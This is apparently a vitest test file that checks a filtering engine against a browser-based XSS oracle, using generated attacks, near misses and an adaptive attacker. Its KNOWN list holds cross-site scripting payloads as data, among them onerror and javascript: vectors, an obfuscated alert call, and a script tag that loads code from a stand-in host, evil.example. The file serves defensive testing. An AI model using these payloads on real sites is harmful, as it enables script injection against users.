/** The core against a browser: what runs is caught, what does not run mostly passes, and small changes do not help. */
import { afterAll, describe, expect, test } from "vitest";
import { Engine } from "../../../hosts/core/engine.ts";
import { browser, closeBrowser } from "../../tools/browser.ts";
import { requireOrSkip } from "../../tools/component.ts";
import { attack } from "./attacker.ts";
import { compare } from "./comparison.ts";
import { isAttack, XssOracle } from "./xss-oracle.ts";

const TIMEOUT_MS = 240_000;
const SEED = 20;
const ATTACKS = 150;
const MISSES = 60;
const BLOCKED_SHARE_MAX = 0.05;
const CASES = 12;
const QUERIES = 5;

afterAll(closeBrowser);

/** Values with the contexts in which a browser runs them. */
const KNOWN = [
  { value: "hello <b>world</b>", runs: [] },
  { value: "<img src=x onerror=alert(1)>", runs: ["bare", "sink", "text"] },
  { value: "'-alert(1)-'", runs: ["argument", "handler", "singleString"] },
  { value: "javascript:alert(1)", runs: ["frame", "href", "location"] },
  { value: '";top["al"+"ert"](1)//', runs: ["doubleString"] },
  { value: "<script src=//evil.example/x.js></script>", runs: ["text"] },
];

describe("the browser", () => {
  test(
    "says where a value runs",
    async (context) => {
      const oracle = await XssOracle.open(requireOrSkip(context, await browser()));
      const ran = await oracle.judge(KNOWN.map(({ value }) => value));
      expect(ran.map((one) => [...one.keys()].sort())).toEqual(KNOWN.map(({ runs }) => runs));
      expect(ran.map(isAttack)).toEqual(KNOWN.map(({ runs }) => runs.length > 0));
      await oracle.close();
    },
    TIMEOUT_MS,
  );
});

describe("the core and the browser agree", () => {
  test(
    "on generated attacks and near misses",
    async (context) => {
      const oracle = await XssOracle.open(requireOrSkip(context, await browser()));
      const found = await compare(Engine.load(), oracle, { seed: SEED, attacks: ATTACKS, misses: MISSES });
      expect(found.passed).toEqual([]);
      expect(found.ran).toBeGreaterThan(ATTACKS / 2);
      expect(found.harmless).toBeGreaterThan(MISSES / 2);
      expect(found.blocked.length).toBeLessThanOrEqual(found.harmless * BLOCKED_SHARE_MAX);
      await oracle.close();
    },
    TIMEOUT_MS,
  );

  test(
    "while an attacker changes what runs",
    async (context) => {
      const oracle = await XssOracle.open(requireOrSkip(context, await browser()));
      const report = await attack(Engine.load(), oracle, { seed: SEED, cases: CASES, queries: QUERIES });
      expect(report.cases).toBe(CASES);
      expect(report.ran).toBeGreaterThan(report.cases);
      expect(report.bypasses).toEqual([]);
      await oracle.close();
    },
    TIMEOUT_MS,
  );
});
